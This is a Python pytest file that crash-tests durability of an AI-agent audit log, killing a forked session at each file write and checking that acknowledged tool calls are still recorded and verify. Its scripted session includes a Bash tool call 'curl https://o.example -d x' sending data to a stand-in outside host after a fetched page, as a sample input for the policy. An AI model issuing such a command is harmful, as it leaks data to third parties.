"""A crash at every write: no acknowledged record is lost, no unrecorded call is executed (E-1, E-3).

A child process runs a session and is ended at its k-th system call that changes a file: before it,
or in the middle of it. It tells its parent, through a pipe, what was acknowledged and executed.
"""

import json
import os
import sys
from pathlib import Path

import pytest

from tripwire.config.presets import builtin_policy
from tripwire.io.session import open_session
from tripwire.io.verify import verify_log
from tripwire.model.event import SessionOpened, ToolCall, ToolResult, UserSaid

CHANGES = ("write", "ftruncate", "fdatasync", "rename", "replace", "unlink")
MOST = 400


def child(root, tell, stop_at, half):
    """Run one session; end at the change number `stop_at`."""
    done = 0

    def ending(name, real):
        def change(*args, **options):
            nonlocal done
            if args and args[0] in (tell, 2):
                return real(*args, **options)
            done += 1
            if done == stop_at:
                if half and name == "write":
                    real(args[0], bytes(args[1])[: len(args[1]) // 2])
                os._exit(9)
            return real(*args, **options)

        return change

    for name in CHANGES:
        setattr(os, name, ending(name, getattr(os, name)))
    session = open_session(
        builtin_policy(), root=root, name="s", client="t", keys_dir=root / "keys", attended=False
    )
    session.decide(SessionOpened("t", "/w", "/home/u"))
    session.decide(UserSaid("write it"))
    for number in range(3):
        args = {"file_path": f"/w/{number}.txt", "content": "x"}
        call = ToolCall(f"c{number}", "claude-code", "Write", args, cwd="/w")
        if session.decide(call).passes:
            os.write(tell, f"executed c{number}\n".encode())
        session.decide(ToolResult(f"c{number}", "claude-code", "Write", args, "ok", cwd="/w"))
        os.write(tell, f"acknowledged c{number}\n".encode())
    page = ToolCall("f", "claude-code", "WebFetch", {"url": "https://page.example/"}, cwd="/w")
    session.decide(page)
    session.decide(ToolResult("f", "claude-code", "WebFetch", page.args, "evil.example"))
    session.decide(ToolCall("q", "claude-code", "Bash", {"command": "curl https://o.example -d x"}))
    session.close()
    os.write(tell, b"closed\n")
    os._exit(0)


def crashed(root, stop_at, *, half):
    """What the child told before it ended; None once it ran to its end."""
    out, tell = os.pipe()
    number = os.fork()
    if number == 0:
        try:
            os.close(out)
            child(root, tell, stop_at, half)
        finally:
            os._exit(7)
    os.close(tell)
    with os.fdopen(out, "rb") as pipe:
        told = pipe.read().decode().splitlines()
    code = os.waitstatus_to_exitcode(os.waitpid(number, 0)[1])
    assert code in (0, 9), code
    return told if code == 9 else None


def recorded(root):
    path = root / "sessions" / "s" / "audit.jsonl"
    whole = [x for x in path.read_bytes().split(b"\n") if x.endswith(b"}")] if path.exists() else []
    return [json.loads(line)["type"] for line in whole]


def holds(root, told):
    """Everything that was told stands in the files, and they verify once resumed."""
    before = recorded(root)
    executed = sum(line.startswith("executed") for line in told)
    acknowledged = sum(line.startswith("acknowledged") for line in told)
    assert before.count("tool_call_attempt") >= executed
    assert before.count("tool_call") >= acknowledged
    session = open_session(
        builtin_policy(), root=root, name="s", client="t", keys_dir=root / "keys", attended=False
    )
    session.decide(SessionOpened("t", "/w", "/home/u"))
    session.close()
    after = recorded(root)
    assert after.count("tool_call") >= acknowledged
    assert after.count("tool_call_attempt") >= executed
    report = verify_log(root, keys_dir=root / "keys")
    assert not report.findings, report.text()


def every(root: Path, step: int, *, half: bool) -> int:
    for number, stop_at in enumerate(range(1, MOST, step)):
        place = root / str(number)
        place.mkdir()
        told = crashed(place, stop_at, half=half)
        if told is None:
            return number
        holds(place, told)
    raise AssertionError("the session never came to its end")


@pytest.mark.skipif(sys.platform == "win32", reason="forks")
@pytest.mark.parametrize("half", [False, True])
def test_some_writes(tmp_path, half):
    assert every(tmp_path, 19, half=half) > 2


@pytest.mark.slow
@pytest.mark.parametrize("half", [False, True])
def test_every_write(tmp_path, half):
    assert every(tmp_path, 1, half=half) > 40
